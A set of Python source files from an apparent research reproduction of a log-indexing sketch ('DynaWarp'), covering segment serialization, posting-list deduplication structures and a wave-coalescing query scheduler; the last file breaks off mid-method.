