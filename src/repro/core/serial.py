"""Single flat-file serialization of the immutable sketch (§4.2).

Layout: magic | header_len u32 | header JSON | 64-byte-aligned raw buffers.
The header holds every array's (dtype, shape, offset); opening a reader
parses only the header — the paper's "single disk page to open" property.
``load(mmap=True)`` maps buffers lazily via np.memmap.

Format 2 (durable segment store) extends the file into the full segment
record the manifest-based store needs:
  * plane presence is EXPLICIT: ``meta.has_planes`` plus the exact
    ``(rows, words)`` geometry live in the header, and load() errors when
    the header and the array entries disagree (or when the caller's
    ``expect_planes`` contradicts the file) — no silently plane-less
    reopened engines.
  * ``stats`` round-trips exactly (numpy scalars are coerced to the JSON
    scalar they mean, so ``loaded.stats == saved.stats``).
  * the retained ``sealed_source`` posting columns (fps / list_ids /
    flattened lists + offsets / refcounts) ride along under ``src.*`` so
    cold-segment merges work straight from the memmapped file.
  * ``fsync=True`` makes the tmp+``os.replace`` publish durable (file and
    directory fsync) — the store's fault-tolerance primitive.
"""
from __future__ import annotations

import json
import os

import numpy as np

from .csf import CompressedStaticFunction
from .faults import fault_point
from .immutable_sketch import ImmutableSketch
from .mphf import MPHF

MAGIC = b"DWRP0001"
ALIGN = 64
FORMAT = 2

_MPHF_FIELDS = ["words", "level_word_offset", "level_bits", "block_rank",
                "fallback_fps", "fallback_idx"]
_CSF_FIELDS = ["bitseq", "lengths", "samples"]
_TOP_FIELDS = ["signatures", "bic_bits", "bic_offsets", "bic_counts"]
_SRC_FIELDS = ["fps", "list_ids", "lists_flat", "list_offsets", "refcounts"]


def _jsonable(obj):
    """Coerce numpy scalars (and containers of them) to plain JSON types so
    ``stats`` round-trips exactly through the header."""
    if isinstance(obj, dict):
        return {str(k): _jsonable(v) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_jsonable(v) for v in obj]
    if isinstance(obj, (np.integer,)):
        return int(obj)
    if isinstance(obj, (np.floating,)):
        return float(obj)
    if isinstance(obj, np.bool_):
        return bool(obj)
    return obj


def fsync_dir(path: str) -> None:
    """fsync a directory so a just-published rename survives power loss."""
    fd = os.open(path, os.O_RDONLY)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)


def save(sketch: ImmutableSketch, path: str, *,
         include_planes: bool | None = None,
         include_source: bool | None = None,
         fsync: bool = False) -> int:
    """Write ``sketch`` as one flat segment file, published atomically.

    ``include_planes``/``include_source``: ``None`` means "whatever the
    sketch has"; ``True`` errors if the sketch lacks the component (plane
    presence must be explicit, never silently dropped)."""
    if include_planes is None:
        include_planes = sketch.planes is not None
    elif include_planes and sketch.planes is None:
        raise ValueError("include_planes=True but sketch has no bitmap "
                         "planes")
    if include_source is None:
        include_source = sketch.sealed_source is not None
    elif include_source and sketch.sealed_source is None:
        raise ValueError("include_source=True but sketch has no retained "
                         "sealed_source")

    arrays: dict[str, np.ndarray] = {}
    for f in _MPHF_FIELDS:
        arrays[f"mphf.{f}"] = np.ascontiguousarray(getattr(sketch.mphf, f))
    for f in _CSF_FIELDS:
        arrays[f"csf.{f}"] = np.ascontiguousarray(getattr(sketch.csf, f))
    for f in _TOP_FIELDS:
        arrays[f] = np.ascontiguousarray(getattr(sketch, f))
    if include_planes:
        arrays["planes"] = np.ascontiguousarray(sketch.planes)

    meta = dict(format=FORMAT, sig_bits=sketch.sig_bits,
                n_postings=sketch.n_postings, n_tokens=sketch.n_tokens,
                mphf_n_keys=sketch.mphf.n_keys,
                mphf_n_rank_bits=sketch.mphf.n_rank_bits,
                csf_n=sketch.csf.n, stats=_jsonable(sketch.stats),
                has_planes=bool(include_planes), has_source=False)
    if include_planes:
        meta["plane_rows"] = int(sketch.planes.shape[0])
        meta["plane_words"] = int(sketch.planes.shape[1])

    if include_source:
        from .segment import sealed_arrays
        src = sketch.sealed_source
        for name, arr in sealed_arrays(src).items():
            arrays[f"src.{name}"] = np.ascontiguousarray(arr)
        meta["has_source"] = True
        meta["src_n_postings"] = int(src.n_postings)
        meta["src_stats"] = _jsonable(src.stats)

    entries = {}
    offset = 0
    blobs = []
    for name, arr in arrays.items():
        offset = (offset + ALIGN - 1) // ALIGN * ALIGN
        entries[name] = dict(dtype=str(arr.dtype), shape=list(arr.shape),
                             offset=offset, nbytes=arr.nbytes)
        blobs.append((offset, arr))
        offset += arr.nbytes
    header = json.dumps(dict(meta=meta, arrays=entries)).encode()

    fault_point("segment.write")
    tmp = path + ".tmp"
    with open(tmp, "wb") as f:
        f.write(MAGIC)
        f.write(np.uint32(len(header)).tobytes())
        f.write(header)
        base = f.tell()
        base_aligned = (base + ALIGN - 1) // ALIGN * ALIGN
        f.write(b"\0" * (base_aligned - base))
        pos = 0
        for off, arr in blobs:
            f.write(b"\0" * (off - pos))
            f.write(arr.tobytes())
            pos = off + arr.nbytes
        if fsync:
            f.flush()
            os.fsync(f.fileno())
    fault_point("segment.publish")
    os.replace(tmp, path)  # atomic publish (fault-tolerance contract)
    if fsync:
        fsync_dir(os.path.dirname(os.path.abspath(path)))
    return os.path.getsize(path)


def load(path: str, *, mmap: bool = True,
         expect_planes: bool | None = None,
         load_source: bool = True) -> ImmutableSketch:
    """Open a segment file by reading its header page; buffers are
    ``np.memmap``-backed when ``mmap=True`` (no full-file read).

    ``expect_planes``: ``True``/``False`` errors when the header's explicit
    plane presence disagrees with the caller's expectation; ``None`` accepts
    whatever the file declares.  Header-vs-payload mismatches (declared
    planes missing, undeclared planes present, or geometry drift) always
    error — corrupt files must not open as silently degraded sketches."""
    with open(path, "rb") as f:
        if f.read(8) != MAGIC:
            raise ValueError(f"{path}: bad magic")
        hlen = int(np.frombuffer(f.read(4), np.uint32)[0])
        header = json.loads(f.read(hlen))
        base = f.tell()
    base_aligned = (base + ALIGN - 1) // ALIGN * ALIGN
    meta, entries = header["meta"], header["arrays"]

    # ------------------------------------------------- header consistency
    fmt = int(meta.get("format", 1))
    has_planes = (bool(meta["has_planes"]) if fmt >= 2
                  else "planes" in entries)
    if has_planes != ("planes" in entries):
        raise ValueError(
            f"{path}: header declares has_planes={has_planes} but the "
            f"plane array is {'missing' if has_planes else 'present'}")
    if expect_planes is not None and bool(expect_planes) != has_planes:
        raise ValueError(
            f"{path}: caller expects planes={bool(expect_planes)} but the "
            f"file was written with has_planes={has_planes}")
    if has_planes and fmt >= 2:
        got = tuple(entries["planes"]["shape"])
        want = (int(meta["plane_rows"]), int(meta["plane_words"]))
        if got != want:
            raise ValueError(f"{path}: plane geometry mismatch — header "
                             f"says {want}, array entry is {got}")

    def read_arr(name):
        if name not in entries:
            return None
        e = entries[name]
        dtype = np.dtype(e["dtype"])
        count = e["nbytes"] // dtype.itemsize
        if mmap:
            arr = np.memmap(path, dtype=dtype, mode="r",
                            offset=base_aligned + e["offset"], shape=(count,))
        else:
            with open(path, "rb") as f:
                f.seek(base_aligned + e["offset"])
                arr = np.frombuffer(f.read(e["nbytes"]), dtype=dtype).copy()
        return arr.reshape(e["shape"])

    mphf = MPHF(words=read_arr("mphf.words"),
                level_word_offset=read_arr("mphf.level_word_offset"),
                level_bits=read_arr("mphf.level_bits"),
                block_rank=read_arr("mphf.block_rank"),
                fallback_fps=read_arr("mphf.fallback_fps"),
                fallback_idx=read_arr("mphf.fallback_idx"),
                n_keys=meta["mphf_n_keys"],
                n_rank_bits=meta["mphf_n_rank_bits"])
    csf = CompressedStaticFunction(bitseq=read_arr("csf.bitseq"),
                                   lengths=read_arr("csf.lengths"),
                                   samples=read_arr("csf.samples"),
                                   n=meta["csf_n"])
    sketch = ImmutableSketch(
        mphf=mphf, csf=csf, signatures=read_arr("signatures"),
        sig_bits=meta["sig_bits"], bic_bits=read_arr("bic_bits"),
        bic_offsets=read_arr("bic_offsets"), bic_counts=read_arr("bic_counts"),
        n_postings=meta["n_postings"], n_tokens=meta["n_tokens"],
        planes=read_arr("planes"), stats=meta.get("stats", {}))

    if load_source and meta.get("has_source"):
        from .segment import sealed_from_arrays
        arrs = {name: read_arr(f"src.{name}") for name in _SRC_FIELDS}
        sketch.sealed_source = sealed_from_arrays(
            arrs, n_postings=meta["src_n_postings"],
            stats=meta.get("src_stats", {}))
    return sketch
