"""The mutable (ingest-time) DynaWarp sketch — faithful to §3.2/§4.1.

Components:
  * token map   : fingerprint -> directly-encoded first posting | list ptr
  * posting lists: deduplicated `PostingList`s with token ref-counts
  * lookup map  : open-addressing table keyed by the commutative postings
                  hash, with the linear-probing insert (Algorithm 1) and
                  back-shifting removal (Algorithm 2) from the paper.

This implementation keeps the paper's *online* structure and algorithms
exactly (including collision probing).  The TPU-native batch builder in
``batch_builder.py`` produces the identical deduplicated result via
sort-based grouping; tests assert equivalence.
"""
from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from .hashing import U64, posting_element_hash, token_fingerprint
from .postings import PostingList

_DIRECT = 0  # token-map value tag: directly encoded single posting
_LIST = 1    # token-map value tag: pointer to a posting list


class LookupMap:
    """Open-addressing postings-hash -> posting-list table (Algorithms 1/2).

    Slots are sparse (a dict keyed by the 64-bit probe position), which
    preserves the paper's probing semantics without preallocating 2^64
    slots.  Hash arithmetic wraps at 2^64 as noted in §4.1.
    """

    def __init__(self):
        self._slots: dict[int, PostingList] = {}

    def __len__(self) -> int:
        return len(self._slots)

    def insert(self, plist: PostingList) -> PostingList:
        """Algorithm 1.  Returns the canonical list (an existing equal list,
        with its token count bumped, or ``plist`` newly stored)."""
        h = plist.postings_hash & U64
        while h in self._slots:               # skip colliding entries
            cand = self._slots[h]
            if cand is plist or cand.equals_postings(plist):
                cand.token_count += 1
                return cand
            h = (h + 1) & U64                 # hash collision found
        plist.token_count += 1
        self._slots[h] = plist
        return plist

    def remove(self, plist: PostingList) -> None:
        """Algorithm 2: locate, delete, then back-shift colliding entries."""
        h = plist.postings_hash & U64
        while h in self._slots:               # find correct entry
            if self._slots[h] is plist:
                del self._slots[h]
                break
            h = (h + 1) & U64
        else:                                  # not stored (single-owner ext.)
            return
        h_f = h                                # freed entry
        h = (h + 1) & U64
        while h in self._slots:               # move colliders closer
            cand = self._slots[h]
            h_c = cand.postings_hash & U64
            # wraparound-aware "intended slot is at or before the free slot"
            if _probe_dist(h_c, h_f) <= _probe_dist(h_c, h):
                del self._slots[h]
                self._slots[h_f] = cand
                h_f = h
            h = (h + 1) & U64

    def find(self, postings_hash: int, count: int, probe) -> PostingList | None:
        """Probe for a list with the given hash whose postings satisfy
        ``probe(candidate) -> bool`` (exact equality check by the caller)."""
        h = postings_hash & U64
        while h in self._slots:
            cand = self._slots[h]
            if cand.postings_hash == postings_hash and len(cand) == count \
                    and probe(cand):
                return cand
            h = (h + 1) & U64
        return None

    def lists(self):
        return self._slots.values()


def _probe_dist(intended: int, slot: int) -> int:
    """Forward probing distance from ``intended`` to ``slot`` (mod 2^64)."""
    return (slot - intended) & U64


@dataclass
class SketchStats:
    tokens: int = 0
    token_posting_inserts: int = 0
    duplicate_inserts: int = 0
    lists_created: int = 0
    lists_deallocated: int = 0

    def as_dict(self):
        return self.__dict__.copy()


class MutableSketch:
    """Ingest-time sketch: add (token, posting) pairs, then ``seal()``."""

    def __init__(self, *, short_list_threshold: int = 16):
        self.token_map: dict[int, tuple[int, object]] = {}
        self.lookup = LookupMap()
        self.threshold = short_list_threshold
        self.stats = SketchStats()
        self.max_posting = -1

    # -- ingest ---------------------------------------------------------------
    def add_token(self, token: bytes, posting: int) -> None:
        self.add_fingerprint(token_fingerprint(token), posting)

    def add_line(self, tokens, posting: int) -> None:
        for t in tokens:
            self.add_token(t, posting)

    def add_fingerprint(self, fp: int, posting: int) -> None:
        self.stats.token_posting_inserts += 1
        self.max_posting = max(self.max_posting, posting)
        entry = self.token_map.get(fp)
        if entry is None:
            # first posting is directly encoded inside the token-map value
            self.token_map[fp] = (_DIRECT, posting)
            self.stats.tokens += 1
            return
        tag, val = entry
        if tag == _DIRECT:
            if val == posting:
                self.stats.duplicate_inserts += 1
                return
            plist = self._find_or_create({val, posting})
            self.token_map[fp] = (_LIST, plist)
            return
        plist: PostingList = val
        if posting in plist:
            self.stats.duplicate_inserts += 1
            return
        self._extend(fp, plist, posting)

    def _find_or_create(self, postings: set[int]) -> PostingList:
        """Find an existing deduplicated list with exactly ``postings`` or
        create + register one.  Token count is incremented by the lookup map."""
        h = 0
        for p in postings:
            h ^= posting_element_hash(p)
        existing = self.lookup.find(
            h, len(postings), lambda c: set(int(x) for x in c.postings()) == postings)
        if existing is not None:
            existing.token_count += 1
            return existing
        plist = PostingList(self.threshold)
        for p in sorted(postings):
            plist.add(p)
        self.stats.lists_created += 1
        return self.lookup.insert(plist)

    def _extend(self, fp: int, plist: PostingList, posting: int) -> None:
        """Extend the posting set of ``fp`` by ``posting`` with online dedup
        (§3.2): constant-time target hash via the commutative XOR update."""
        target_hash = (plist.postings_hash ^ posting_element_hash(posting)) & U64
        target_count = len(plist) + 1
        existing = self.lookup.find(
            target_hash, target_count,
            lambda c: posting in c and _is_superset(c, plist))
        if existing is not None and existing is not plist:
            existing.token_count += 1
            self._release(plist)
            self.token_map[fp] = (_LIST, existing)
            return
        if plist.token_count == 1:
            # sole owner: extend in place; its hash changes -> re-slot
            self.lookup.remove(plist)
            plist.token_count -= 1
            plist.add(posting)
            canonical = self.lookup.insert(plist)
            self.token_map[fp] = (_LIST, canonical)
            return
        # shared list: copy-on-write for this token only
        plist.token_count -= 1
        new_list = plist.copy_with(posting)
        self.stats.lists_created += 1
        canonical = self.lookup.insert(new_list)
        self.token_map[fp] = (_LIST, canonical)

    def _release(self, plist: PostingList) -> None:
        plist.token_count -= 1
        if plist.token_count <= 0:
            self.lookup.remove(plist)
            self.stats.lists_deallocated += 1

    # -- queries (Algorithm 3 support) -----------------------------------------
    def is_present(self, fp: int) -> bool:
        return fp in self.token_map

    def acquire_postings(self, fp: int) -> np.ndarray | None:
        entry = self.token_map.get(fp)
        if entry is None:
            return None
        tag, val = entry
        if tag == _DIRECT:
            return np.asarray([val], dtype=np.int64)
        return val.postings()

    # -- seal -------------------------------------------------------------------
    def seal(self) -> "SealedContent":
        """Materialize the deduplicated token->list mapping (all direct
        entries promoted to real single-posting lists, §3.3) for the
        immutable-sketch builder."""
        singles: dict[int, int] = {}   # posting -> list index
        lists: list[np.ndarray] = []
        refcounts: list[int] = []
        id_by_obj: dict[int, int] = {}
        fps = np.empty(len(self.token_map), dtype=np.uint32)
        list_ids = np.empty(len(self.token_map), dtype=np.int64)
        for i, (fp, (tag, val)) in enumerate(sorted(self.token_map.items())):
            fps[i] = fp
            if tag == _DIRECT:
                li = singles.get(val)
                if li is None:
                    li = len(lists)
                    singles[val] = li
                    lists.append(np.asarray([val], dtype=np.int64))
                    refcounts.append(0)
                list_ids[i] = li
                refcounts[li] += 1
            else:
                key = id(val)
                li = id_by_obj.get(key)
                if li is None:
                    li = len(lists)
                    id_by_obj[key] = li
                    lists.append(val.postings())
                    refcounts.append(0)
                list_ids[i] = li
                refcounts[li] += 1
        return SealedContent(
            fps=fps, list_ids=list_ids, lists=lists,
            refcounts=np.asarray(refcounts, dtype=np.int64),
            n_postings=self.max_posting + 1,
            stats=self.stats.as_dict())

    def memory_bytes(self) -> int:
        token_map = len(self.token_map) * 8  # 4B key + 4B value (§4.1)
        lookup = len(self.lookup) * 16
        lists = sum(pl.memory_bytes() for pl in self.lookup.lists())
        return token_map + lookup + lists


def _is_superset(candidate: PostingList, base: PostingList) -> bool:
    return all(int(p) in candidate for p in base.postings())


@dataclass
class SealedContent:
    """Deduplicated content of a sealed sketch, input to the immutable build."""
    fps: np.ndarray          # (T,) uint32 token fingerprints, sorted unique
    list_ids: np.ndarray     # (T,) int64 posting-list id per token
    lists: list              # list of int64 arrays (sorted postings)
    refcounts: np.ndarray    # (L,) tokens referencing each list
    n_postings: int
    stats: dict = field(default_factory=dict)

    def canonical_lists(self) -> list[tuple]:
        return [tuple(int(x) for x in l) for l in self.lists]
