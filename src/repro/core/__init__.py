"""DynaWarp/COPR core: the paper's primary contribution.

Mutable sketch (online dedup, Algorithms 1-3), TPU-native batch builder,
immutable sketch (MPHF + signatures + compressed static function + BIC),
query execution, segmentation/merge, flat-file serialization.
"""
from .batch_builder import build_sealed, build_sealed_from_lines
from .hashing import postings_hash, token_fingerprint
from .immutable_sketch import ImmutableSketch, build_immutable
from .mutable_sketch import MutableSketch, SealedContent
from .query import AndConsumer, OrConsumer, execute_query, query_and, query_or
from .query_engine import QueryEngine
from .segment import SegmentWriter, merge_sealed
from .tokenizer import (contains_query_tokens, pack_tokens, term_query_tokens,
                        tokenize_line)

__all__ = [
    "AndConsumer", "ImmutableSketch", "MutableSketch", "OrConsumer",
    "QueryEngine", "SealedContent", "SegmentWriter", "build_immutable",
    "build_sealed",
    "build_sealed_from_lines", "contains_query_tokens", "execute_query",
    "merge_sealed", "pack_tokens", "postings_hash", "query_and", "query_or",
    "term_query_tokens", "token_fingerprint", "tokenize_line",
]
