"""Posting-list representations (§4.1).

Short lists (below ``short_list_threshold`` postings) are kept as sorted
arrays of u16 posting ids (binary-search insert); longer lists switch to a
dense bitset.  Both give O(1)-amortized inserts and a hard cap of 2^16
postings per sketch, as in the paper.
"""
from __future__ import annotations

import numpy as np

from .hashing import posting_element_hash

MAX_POSTINGS = 1 << 16


class PostingList:
    """A deduplicated set of posting ids with an incrementally-maintained
    commutative postings hash (Def. 3.1) and a token reference count."""

    __slots__ = ("_shorts", "_bitset", "postings_hash", "token_count",
                 "_count", "_threshold")

    def __init__(self, threshold: int = 16):
        self._shorts: list[int] = []
        self._bitset: np.ndarray | None = None
        self.postings_hash: int = 0
        self.token_count: int = 0
        self._count = 0
        self._threshold = threshold

    # -- queries ------------------------------------------------------------
    def __len__(self) -> int:
        return self._count

    def __contains__(self, p: int) -> bool:
        if self._bitset is not None:
            return bool((self._bitset[p >> 5] >> np.uint32(p & 31)) & np.uint32(1))
        import bisect
        i = bisect.bisect_left(self._shorts, p)
        return i < len(self._shorts) and self._shorts[i] == p

    def postings(self) -> np.ndarray:
        if self._bitset is not None:
            words = self._bitset
            out = []
            for w_idx in np.nonzero(words)[0]:
                w = int(words[w_idx])
                base = int(w_idx) << 5
                while w:
                    b = w & -w
                    out.append(base + b.bit_length() - 1)
                    w ^= b
            return np.asarray(out, dtype=np.int64)
        return np.asarray(self._shorts, dtype=np.int64)

    # -- updates ------------------------------------------------------------
    def add(self, p: int) -> bool:
        """Insert posting ``p``; returns False if already present (repeated
        inserts of the same posting must not modify the list, §3.2)."""
        if not 0 <= p < MAX_POSTINGS:
            raise ValueError(f"posting id {p} out of the 2^16 range (§4.1)")
        if p in self:
            return False
        if self._bitset is not None:
            self._bitset[p >> 5] |= np.uint32(1 << (p & 31))
        else:
            import bisect
            bisect.insort(self._shorts, p)
            if len(self._shorts) > self._threshold:
                self._to_bitset()
        self._count += 1
        self.postings_hash ^= posting_element_hash(p)
        return True

    def _to_bitset(self) -> None:
        bs = np.zeros(MAX_POSTINGS >> 5, dtype=np.uint32)
        for p in self._shorts:
            bs[p >> 5] |= np.uint32(1 << (p & 31))
        self._bitset = bs
        self._shorts = []

    def copy_with(self, p: int) -> "PostingList":
        """A copy of this list extended by ``p`` (used when a shared list is
        extended for only one of its referencing tokens)."""
        out = PostingList(self._threshold)
        out._shorts = list(self._shorts)
        out._bitset = None if self._bitset is None else self._bitset.copy()
        out.postings_hash = self.postings_hash
        out._count = self._count
        out.add(p)
        return out

    def equals_postings(self, other: "PostingList") -> bool:
        if self._count != other._count:
            return False
        return np.array_equal(self.postings(), other.postings())

    def memory_bytes(self) -> int:
        if self._bitset is not None:
            return self._bitset.nbytes + 16
        return 2 * len(self._shorts) + 16
