"""Wave-coalescing query serving front end with admission control.

The engine's fast path is the padded power-of-two ``(Q, T)`` wave
through the Pallas ``sketch_probe``/``bitset_ops`` kernels — but the
store alone only answers one-shot ``query_term_batch`` calls, so
nothing *forms* waves from independent clients.  This module is the
saxml-``ServableMethod``-shaped serving layer that does:

  * **Shape-bucketed coalescing** — concurrent term/boolean queries
    from many clients queue per ``(op, T-bucket)`` group; the
    dispatcher flushes a group as one engine wave when it reaches the
    largest supported Q bucket (size trigger) or when its oldest
    request ages past ``flush_deadline_s`` (deadline trigger — a lone
    straggler never waits longer than the deadline).
  * **Sorted supported bucket sizes, pad-to-bucket** — a flushed wave
    pads up to the smallest supported Q bucket that fits (replicating
    a real query, unpadded on completion), so repeated waves hit one
    jit cache entry per bucket shape.
  * **Admission control with backpressure** — at most
    ``max_live_waves`` waves execute concurrently; the dispatcher
    holds further flushes (arrivals keep coalescing into bigger
    waves), and ``submit()`` BLOCKS — never drops — once
    ``max_pending`` requests queue.
  * **Latency-aware host-vs-device dispatch** — a measured per-bucket
    :class:`CostModel` (emitted by ``benchmarks/query_throughput.py``)
    decides per wave whether the scalar host path (cheap for lone
    stragglers) or one jitted device wave (amortized across users)
    answers faster.
  * **Engine replicas** — waves round-robin over engine replicas
    (cheap: :meth:`QueryEngine.clone` shares every per-segment device
    cache), each guarded by its own lock so concurrent waves overlap
    across replicas without racing an engine's jit/LRU state.
  * **Snapshot-backed serving during live ingest** —
    :class:`StoreServer` serves from a store view (the finished store,
    or a :meth:`~repro.logstore.store.DynaWarpStore.snapshot` of a
    live one) and ``refresh()`` atomically advances engines-then-view,
    so every answer is exact over some published prefix even while a
    writer keeps ingesting (or crashes mid-spill).

Results are bit-identical to direct ``query_fps_batch`` calls: the
scheduler only *groups and pads* — evaluation is the engine's own wave
path either way.
"""
from __future__ import annotations

import bisect
import json
import threading
import time
from collections import OrderedDict, deque
from dataclasses import dataclass, field

import numpy as np

from .hashing import token_fingerprint
from .tokenizer import contains_query_tokens, term_query_tokens

#: Sorted supported Q buckets (powers of two — the engine's own padding
#: geometry, so scheduler buckets and jit cache entries coincide).
DEFAULT_BUCKET_SIZES = (8, 16, 32, 64, 128, 256)

#: Where ``benchmarks/query_throughput.py`` drops the measured model.
DEFAULT_COST_MODEL_PATH = "bench_costmodel.json"

COST_MODEL_FORMAT = 1


def _as_fp(tok) -> int:
    if isinstance(tok, (bytes, bytearray)):
        return token_fingerprint(tok)
    return int(tok)


def _t_bucket(n_tokens: int) -> int:
    """Power-of-two T grouping key (>= 1)."""
    return 1 << max(n_tokens - 1, 0).bit_length()


class CostModel:
    """Measured per-bucket dispatch costs driving host-vs-device.

    ``host_us_per_query`` is the scalar host probe's per-query cost;
    ``device_us_per_wave`` maps a Q bucket to one jitted device wave's
    dispatch cost at that bucket.  A wave of ``n`` queries goes to the
    host path iff ``n * host_us_per_query <= device_us_per_wave[b]``
    for its bucket ``b`` — lone stragglers keep taking the scalar path,
    big waves amortize the dispatch.  The defaults are CPU-interpret-
    shaped placeholders; ``benchmarks/query_throughput.py`` emits the
    measured model (:func:`CostModel.load`).
    """

    def __init__(self, *, host_us_per_query: float = 150.0,
                 device_us_per_wave: dict | None = None):
        if device_us_per_wave is None:
            device_us_per_wave = {8: 4_000.0, 16: 4_500.0, 32: 5_000.0,
                                  64: 6_000.0, 128: 8_000.0, 256: 12_000.0}
        if not device_us_per_wave:
            raise ValueError("device_us_per_wave must not be empty")
        self.host_us_per_query = float(host_us_per_query)
        self.device_us_per_wave = {int(k): float(v)
                                   for k, v in device_us_per_wave.items()}
        self._buckets = sorted(self.device_us_per_wave)

    def device_wave_us(self, q_bucket: int) -> float:
        """Dispatch cost of one wave at ``q_bucket``: the measured cost
        of the smallest covering bucket, linearly extrapolated past the
        largest measured one."""
        i = bisect.bisect_left(self._buckets, q_bucket)
        if i < len(self._buckets):
            return self.device_us_per_wave[self._buckets[i]]
        top = self._buckets[-1]
        return self.device_us_per_wave[top] * (q_bucket / top)

    def prefer_host(self, n_queries: int, q_bucket: int) -> bool:
        return (n_queries * self.host_us_per_query
                <= self.device_wave_us(q_bucket))

    def to_dict(self) -> dict:
        return {"format": COST_MODEL_FORMAT,
                "host_us_per_query": self.host_us_per_query,
                "device_us_per_wave": {str(k): v for k, v in
                                       sorted(self.device_us_per_wave
                                              .items())}}

    @classmethod
    def from_dict(cls, d: dict) -> "CostModel":
        if int(d.get("format", COST_MODEL_FORMAT)) > COST_MODEL_FORMAT:
            raise ValueError(f"cost model format {d['format']} is newer "
                             f"than this reader ({COST_MODEL_FORMAT})")
        return cls(host_us_per_query=d["host_us_per_query"],
                   device_us_per_wave=d["device_us_per_wave"])

    @classmethod
    def load(cls, path: str = DEFAULT_COST_MODEL_PATH) -> "CostModel":
        with open(path) as f:
            return cls.from_dict(json.load(f))


class WaveTicket:
    """One submitted query's completion handle.

    ``wait()`` blocks for the wave that serves it; ``t_done`` is
    stamped inside the wave (not at ``wait()`` return), so latency
    percentiles measured from tickets are dispatch-accurate.
    """

    __slots__ = ("fps", "op", "t_submit", "t_done", "wave_id", "via",
                 "_event", "_result", "_error")

    def __init__(self, fps: list, op: str):
        self.fps = fps
        self.op = op
        self.t_submit = 0.0
        self.t_done = 0.0
        self.wave_id = -1
        self.via = ""            # "host" | "device" once served
        self._event = threading.Event()
        self._result = None
        self._error = None

    def done(self) -> bool:
        return self._event.is_set()

    def wait(self, timeout: float | None = None) -> np.ndarray:
        if not self._event.wait(timeout):
            raise TimeoutError(f"query not served within {timeout}s")
        if self._error is not None:
            raise self._error
        return self._result

    def _complete(self, result, wave_id: int, via: str) -> None:
        self.t_done = time.monotonic()
        self.wave_id = wave_id
        self.via = via
        self._result = result
        self._event.set()

    def _fail(self, err: BaseException, wave_id: int) -> None:
        self.t_done = time.monotonic()
        self.wave_id = wave_id
        self._error = err
        self._event.set()


@dataclass
class ServeStats:
    """Scheduler counters (mutated under the scheduler lock; read a
    consistent copy via :meth:`WaveScheduler.stats`)."""
    submitted: int = 0
    completed: int = 0
    failed: int = 0
    waves: int = 0
    host_waves: int = 0
    device_waves: int = 0
    size_flushes: int = 0
    deadline_flushes: int = 0
    drain_flushes: int = 0
    padded_slots: int = 0
    max_wave: int = 0
    replica_waves: dict = field(default_factory=dict)


class WaveScheduler:
    """Coalesces concurrent queries into shape-bucketed engine waves.

    ``engines`` is one or more wave-capable engines (anything with
    ``query_fps_batch(fps_lists, op=...)`` and ``host_query(tokens,
    op=...)`` — :class:`~repro.core.query_engine.QueryEngine`, its
    sharded subclass, or a test stub).  Thread-safe: any number of
    client threads may ``submit()``/``query()`` concurrently.
    """

    def __init__(self, engines, *, bucket_sizes=DEFAULT_BUCKET_SIZES,
                 flush_deadline_s: float = 0.002, max_live_waves: int = 2,
                 max_pending: int = 8192, cost_model: CostModel | None = None,
                 start: bool = True):
        engines = list(engines)
        if not engines:
            raise ValueError("at least one engine replica is required")
        self.bucket_sizes = tuple(sorted({int(b) for b in bucket_sizes}))
        if not self.bucket_sizes or self.bucket_sizes[0] < 1:
            raise ValueError(f"bucket_sizes={bucket_sizes!r}")
        self.flush_deadline_s = float(flush_deadline_s)
        self.max_live_waves = max(int(max_live_waves), 1)
        self.max_pending = max(int(max_pending), 1)
        self.cost_model = cost_model if cost_model is not None else CostModel()
        self._cv = threading.Condition()
        # every engine replica gets its own lock: waves overlap across
        # replicas but never race one engine's jit caches / LRUs
        self._engines: list = []
        self._engine_locks: list[threading.Lock] = []
        self.set_engines(engines)
        # (op, t_bucket) -> FIFO of pending tickets; insertion-ordered so
        # the drain path visits groups deterministically
        self._groups: "OrderedDict[tuple, deque]" = OrderedDict()
        self._n_pending = 0
        self._inflight = 0          # formed waves not yet completed
        self._ready: deque = deque()  # formed waves awaiting a worker
        self._wave_seq = 0
        self._stop = False
        self._dispatch_done = False
        self._stats = ServeStats()
        self._dispatcher = threading.Thread(
            target=self._dispatch_loop, name="wave-dispatcher", daemon=True)
        self._workers = [threading.Thread(
            target=self._worker_loop, name=f"wave-worker-{i}", daemon=True)
            for i in range(self.max_live_waves)]
        self._started = False
        if start:
            self.start()

    # ------------------------------------------------------------ lifecycle
    def start(self) -> "WaveScheduler":
        if not self._started:
            self._started = True
            self._dispatcher.start()
            for w in self._workers:
                w.start()
        return self

    def close(self, timeout: float = 60.0) -> None:
        """Drain: pending queries flush as final waves, then threads
        exit.  Idempotent."""
        with self._cv:
            self._stop = True
            self._cv.notify_all()
        if not self._started:
            return
        self._dispatcher.join(timeout)
        for w in self._workers:
            w.join(timeout)

    def __enter__(self) -> "WaveScheduler":
        return self.start()

    def __exit__(self, *exc) -> bool:
        self.close()
        return False

    # -------------------------------------------------------------- replicas
    def set_engines(self, engines) -> None:
        """Atomic replica swap (snapshot refresh during live ingest).
        In-flight waves keep the engine they were routed to."""
        engines = list(engines)
        if not engines:
            raise ValueError("at least one engine replica is required")
        with self._cv:
            self._engines = engines
            self._engine_locks = [threading.Lock() for _ in engines]

    @property
    def n_replicas(self) -> int:
        return len(self._engines)

    # --------------------------------------------------------------- clients
    def submit(self, tokens, *, op: str = "and") -> WaveTicket:
        """Enqueue one query; returns immediately with a ticket unless
        ``max_pending`` is saturated, in which case it BLOCKS until the
        dispatcher frees queue space (backpressure, never a drop)."""
        if op not in ("and", "or"):
            raise ValueError(f"op={op!r}")
        fps = [_as_fp(t) for t in tokens]
        ticket = WaveTicket(fps, op)
        key = (op, _t_bucket(len(fps)))
        with self._cv:
            while self._n_pending >= self.max_pending and not self._stop:
                self._cv.wait(timeout=0.05)
            if self._stop:
                raise RuntimeError("scheduler is closed")
            ticket.t_submit = time.monotonic()
            self._groups.setdefault(key, deque()).append(ticket)
            self._n_pending += 1
            self._stats.submitted += 1
            self._cv.notify_all()
        return ticket

    def query(self, tokens, *, op: str = "and",
              timeout: float | None = None) -> np.ndarray:
        return self.submit(tokens, op=op).wait(timeout)

    def query_batch(self, token_lists, *, op: str = "and",
                    timeout: float | None = None) -> list[np.ndarray]:
        tickets = [self.submit(toks, op=op) for toks in token_lists]
        return [t.wait(timeout) for t in tickets]

    def stats(self) -> ServeStats:
        with self._cv:
